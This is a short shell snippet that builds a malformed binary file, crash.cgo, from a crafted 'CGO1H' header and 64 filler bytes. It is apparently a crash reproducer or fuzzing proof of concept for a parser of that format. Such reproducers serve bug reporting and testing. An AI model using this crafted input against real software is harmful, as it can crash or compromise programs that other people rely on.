{ printf 'CGO1H\004\000\004\000\001\000N\100\000'; head -c 64 /dev/zero | tr '\0' B; } > crash.cgo
echo crash.cgo
